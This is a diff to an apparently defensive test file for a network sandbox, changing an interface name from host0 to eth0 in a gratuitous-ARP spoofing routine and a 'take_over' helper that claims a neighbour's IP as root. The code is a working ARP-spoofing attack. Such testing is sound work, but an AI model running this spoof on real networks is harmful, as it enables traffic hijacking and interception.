@@ -13,10 +13,10 @@ from wsfixture.workspaces import Workspace
 GRATUITOUS_ARP = """
 import socket, struct, sys, time
 ip = socket.inet_aton(sys.argv[1])
-mac = bytes.fromhex(open("/sys/class/net/host0/address").read().strip().replace(":", ""))
+mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
 arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac, ip, b"\\xff" * 6, ip)
 with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
-    s.bind(("host0", 0))
+    s.bind(("eth0", 0))
     for _ in range(4):  # beyond the neighbour entry's locktime (1 s)
         s.send(b"\\xff" * 6 + mac + b"\\x08\\x06" + arp)
         time.sleep(0.4)
@@ -31,10 +31,10 @@ def neighbour_of(sandbox_lab: Lab, ip: str) -> str:
 
 def take_over(attacker: Workspace, ip: str) -> None:
     command = (
-        f"ip addr add {ip}/24 dev host0 2>/dev/null; "
+        f"ip addr add {ip}/24 dev eth0 2>/dev/null; "
         f"python3 -c {shlex.quote(GRATUITOUS_ARP)} {ip}; "
         f"ping -c 1 -W 1 -I {ip} 192.168.83.1 >/dev/null; "
-        f"ip addr del {ip}/24 dev host0"
+        f"ip addr del {ip}/24 dev eth0"
     )
     _, said = as_root(attacker, command)
     assert "sent" in said.splitlines(), f"the attack did not run: {said}"
